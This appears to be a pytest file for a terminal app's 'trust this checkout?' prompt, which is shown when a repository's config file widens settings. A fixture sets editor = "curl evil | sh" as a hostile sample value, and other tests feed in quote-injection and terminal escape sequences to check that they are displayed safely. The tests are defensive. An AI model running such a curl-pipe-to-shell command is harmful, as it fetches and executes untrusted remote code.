"""A checkout whose settings reach further: the question, its answers, and the status bar."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from textual.events import Key
from textual.pilot import Pilot

from panther_engine.events import RepositoryChanged
from panther_tui.app.app import PantherApp
from panther_tui.app.link import EngineLink
from panther_tui.overlays.reading.trust import ALLOWS, LIMITLESS, TrustScreen, trust_lines
from panther_tui.settings.config import find_widening, load_config
from panther_tui.settings.trust import GUARDED, Widening, is_refused, is_trusted
from tests.tui.app.test_app import ALL
from tests.tui.fake_engine import FakeEngine, asks, done, repository, screen_text, shows, wait_for


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "panther-tui.toml").write_text('network = true\neditor = "curl evil | sh"\n')
    return tmp_path


class Opened:
    def __init__(self, root: Path, trust: bool | None = None) -> None:
        self.root = root
        self.engines = [FakeEngine(ALL)]
        config, problems = load_config(root, trust=trust)
        self.app = PantherApp(
            self.engines[0],
            config=config,
            problems=problems,
            restart=self.start,
            trust=trust,
            hint=True,
        )

    def start(self) -> EngineLink:
        """Another engine."""
        self.engines.append(FakeEngine(ALL))
        return self.engines[-1]

    def values(self) -> dict[str, object]:
        return {one.name: one.value for one in find_widening(self.root)}


@asynccontextmanager
async def opened(
    root: Path, trust: bool | None = None
) -> AsyncIterator[tuple[Pilot[None], Opened]]:
    it = Opened(root, trust)
    async with it.app.run_test(size=(160, 45), notifications=True) as pilot:
        events = repository(it.engines[0], done(3))
        it.engines[0].say(
            *(
                replace(one, root=str(root)) if isinstance(one, RepositoryChanged) else one
                for one in events
            )
        )
        await wait_for(pilot, lambda: it.app.state.generation)
        yield pilot, it


async def asked(pilot: Pilot[None], *texts: str) -> None:
    """Wait until these texts are asked about, and were painted."""
    await asks(pilot, TrustScreen)
    await shows(pilot, "Trust this checkout?", *texts)


async def test_opening_asks_with_file_line_and_value_while_the_app_goes_on(root: Path) -> None:
    async with opened(root) as (pilot, it):
        await asked(pilot, "network = true", "panther-tui.toml:1")
        await shows(pilot, 'editor = "curl evil | sh"', "panther-tui.toml:2", ALLOWS["editor"])
        assert "New here?" not in screen_text(it.app), "nothing lies over the question"
        await wait_for(pilot, lambda: it.app.state.last_run)
        assert not it.app.config.network
        await pilot.press("enter", "space", "y")
        assert isinstance(it.app.screen, TrustScreen), "no key of habit answers"


async def test_trusted_they_count_at_once_and_are_remembered(root: Path, said: list[str]) -> None:
    async with opened(root) as (pilot, it):
        await asked(pilot)
        await pilot.press("t")
        await wait_for(pilot, lambda: len(it.engines) == 2)
        assert it.app.config.network
        assert it.engines[0].closed
        assert is_trusted(root, it.values())
        await wait_for(pilot, lambda: "They count now." in said)
        assert "untrusted" not in screen_text(it.app)


async def test_not_now_is_said_in_the_bar_and_asked_again_from_there(root: Path) -> None:
    async with opened(root) as (pilot, it):
        await asked(pilot)
        await pilot.press("escape")
        await shows(pilot, "untrusted 2 settings")
        assert not is_trusted(root, it.values())
        assert not is_refused(root, it.values())
        assert len(it.engines) == 1
        await it.app.main.action_do("trust")
        await asked(pilot)


async def test_never_is_remembered_until_a_setting_changes(root: Path) -> None:
    async with opened(root) as (pilot, it):
        await asked(pilot)
        await pilot.press("N")
        await wait_for(pilot, lambda: is_refused(root, it.values()))
    async with opened(root) as (pilot, it):
        await shows(pilot, "untrusted 2 settings")
        assert it.app.screen is it.app.main
        (root / "panther-tui.toml").write_text("network = true\nmemory = 0\n")
        it.app.follow_settings()
        await asked(pilot, "memory = 0")
        assert not it.app.config.network


async def test_what_changes_under_the_question_is_not_what_was_allowed(root: Path) -> None:
    async with opened(root) as (pilot, it):
        await asked(pilot)
        question = it.app.screen
        (root / "panther-tui.toml").write_text('network = true\neditor = "worse"\n')
        it.app.follow_settings()
        assert it.app.screen is question, "a key that is on its way would answer what it never saw"
        await pilot.press("t")
        await asked(pilot, 'editor = "worse"')
        assert not it.app.config.network
        assert len(it.engines) == 1


async def test_what_changes_under_the_question_is_asked_after_it(root: Path) -> None:
    async with opened(root) as (pilot, it):
        await asked(pilot)
        (root / "panther-tui.toml").write_text("memory = 0\n")
        it.app.follow_settings()
        await pilot.press("escape")
        await asked(pilot, "memory = 0")


async def test_a_key_that_was_on_its_way_answers_no_question(root: Path) -> None:
    async with opened(root) as (pilot, it):
        await asked(pilot)
        await pilot.press("escape")
        await wait_for(pilot, lambda: it.app.screen is it.app.main)
        answers: list[str] = []
        for key in "tqN":
            question = TrustScreen(str(root), find_widening(root), answers.append)
            it.app.push_screen(question)
            it.app.post_message(Key(key, key))
            await asked(pilot)
            assert it.app.screen is question
            await pilot.press("escape")
            await wait_for(pilot, lambda: it.app.screen is it.app.main)
        assert answers == ["later"] * 3


@pytest.mark.parametrize(("trust", "network"), [(True, True), (False, False)])
async def test_with_the_command_lines_word_nothing_is_asked(
    root: Path, trust: bool, network: bool
) -> None:
    async with opened(root, trust) as (pilot, it):
        await wait_for(pilot, lambda: it.app.state.last_run)
        it.app.follow_settings(force=True)
        await pilot.pause()
        assert it.app.screen is it.app.main
        assert it.app.config.network is network
        assert ("untrusted 2 settings" in screen_text(it.app)) is not trust


def test_each_guarded_setting_says_what_it_allows() -> None:
    assert set(ALLOWS) == GUARDED


def test_it_says_first_how_many_there_are_and_that_they_do_not_count() -> None:
    found = [Widening("memory", 0, "a.toml", 3), Widening("timeout", 600.0, "a.toml", 4)]
    head, state, *_ = text = [line.plain for line in trust_lines("/r", found)]
    assert head == "2 settings in this checkout reach further than your own."
    assert state == "They do not count now, and the tests run without them."
    assert "timeout = 600  a.toml:4" in text
    assert f"    {LIMITLESS['memory']}" in text
    assert f"    {ALLOWS['timeout']}" in text
    assert trust_lines("/r", found[:1])[0].plain.startswith("1 setting in this checkout reaches ")


def test_a_value_cannot_end_itself() -> None:
    lines = trust_lines("/r", [Widening("editor", 'vi"  a.toml:1', "f.toml", 1)])
    assert any('editor = "vi\\"  a.toml:1"  f.toml:1' in line.plain for line in lines)


def test_no_value_is_a_control_sequence_or_hides_its_end() -> None:
    lines = trust_lines("/r", [Widening("editor", "a\x1b[2Jb\u202ec", "f\x07.toml", 1)])
    text = "".join(line.plain for line in lines)
    assert text.isprintable()
    assert "b" in text
